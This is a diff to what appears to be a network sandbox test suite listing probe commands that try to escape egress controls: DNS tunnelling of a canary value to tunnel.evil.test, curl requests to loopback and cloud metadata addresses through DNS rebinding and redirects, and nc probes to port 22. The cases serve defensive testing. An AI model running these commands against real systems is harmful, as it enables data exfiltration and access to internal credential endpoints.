@@ -64,17 +64,16 @@ QUESTIONS = [
     Case("host-tool", "E11", "host -W 1 -t TXT {canary}.tunnel.evil.test", FORWARD, needs="host"), Case("nslookup", "E11", f"nslookup -timeout=1 -retry=0 {{canary}}.tunnel.evil.test {EVIL4}", FORWARD, needs="nslookup"),
     Case("busybox-nslookup", "E11", f"timeout 2 busybox nslookup {{canary}}.tunnel.evil.test {EVIL4}", FORWARD, needs="busybox"),
     Case("dns2tcp", "E11", f"timeout 2 dns2tcpc -z tunnel.evil.test -k x {EVIL4}", FORWARD, needs="dns2tcpc"),
-    Case("names-of-a-zone", "E11", "{K} ask-many 'x{{n}}-{canary}.ok-zone.test' 300", NAMES, judge="counted", count=250),
 ]
 
 HOME = {**places.NEAR, **places.NEAR6}
 REBOUND = [
     *[Case(f"leads-to-{n}", "E3", f"curl -sS -m 3 http://{n}.ok.test/{{canary}}", ADDRESS, judge="stray") for n in HOME if n not in UNREACHABLE],
     *[Case(f"leads-tls-{n}", "E3", f"curl -skS -m 3 https://{n}.ok.test/{{canary}}", ADDRESS, judge="stray") for n in ("loopback", "private-10", "metadata", "mapped-metadata", "nat64-metadata", "ula", "loopback6")],
-    *[Case(f"leads-silent-{n}", "E3", f"nc -d -w 1 {n}.ok.test 22", ANYWHERE, judge="stray", needs="nc") for n in ("loopback", "metadata", "private-192")],
+    *[Case(f"leads-silent-{n}", "E3", f"nc.openbsd -d -w 1 {n}.ok.test 22", ANYWHERE, judge="stray", needs="nc.openbsd") for n in ("loopback", "metadata", "private-192")],
     Case("alias-near", "E3", "curl -sS -m 3 http://alias-near.ok.test/", ADDRESS, judge="stray"), Case("alias-evil-near", "E3", "curl -sS -m 3 http://alias-evil.ok.test/", ADDRESS, judge="stray"),
-    Case("rebind", "E3", "for i in 1 2 3 4; do curl -sS -m 2 http://rebind.ok.test/$i; done", ADDRESS, judge="stray"),
-    Case("rebind-metadata", "E3", "for i in 1 2 3 4; do curl -sS -m 2 http://rebind-metadata.ok.test/$i; done", ADDRESS, judge="stray"),
+    Case("rebind", "E3", "for i in 1 2 3 4; do curl -sS -m 2 http://rebind.ok.test/$i; sleep 0.6; done", ADDRESS, judge="stray", audit=False),
+    Case("rebind-metadata", "E3", "for i in 1 2 3 4; do curl -sS -m 2 http://rebind-metadata.ok.test/$i; sleep 0.6; done", ADDRESS, judge="stray", audit=False),
     Case("mixed-address", "E3", "curl -sS -m 3 --connect-to ::127.0.0.1: http://mixed.ok.test/; curl -sS -m 3 --connect-to ::169.254.169.254: http://mixed.ok.test/", ANYWHERE, judge="stray"),
     Case("hosts-file-near", "E3", "curl -sS -m 3 http://nearbyfile.ok.test/", ADDRESS, judge="stray"), Case("own-name", "E3", "curl -sS -m 3 http://own.ok.test/", ADDRESS, judge="stray"),
     Case("extra-record", "E3", "curl -sS -m 3 http://extra.ok.test/; curl -sS -m 3 http://metadata.ok.test/", ADDRESS, judge="stray"),
@@ -86,6 +85,11 @@ REDIRECTS = [
     Case("redirect-wget", "E10", "wget -q -T 3 -t 1 -O- 'http://good.test/redirect?to=http://evil.test/x'", NAMES, judge="stray", needs="wget"),
     Case("redirect-tls", "E10", "curl -sL -m 4 'https://good.test/redirect?to=http://evil.test/x'", NAMES, judge="stray"),
     Case("redirect-python", "E10", "python3 -c 'import urllib.request as u; u.urlopen(\"http://good.test/redirect?to=http://evil.test/x\", timeout=3)'", NAMES, judge="stray"),
+]
+
+# So much of it that refusals are no longer told one by one: the last of all.
+MANY = [
+    Case("names-of-a-zone", "E11", "{K} ask-many 'x{{n}}-{canary}.ok-zone.test' 300", NAMES, judge="counted", count=250),
 ]
 
 CASES = [*NAMED, *PORTS, *QUESTIONS, *REBOUND, *REDIRECTS]
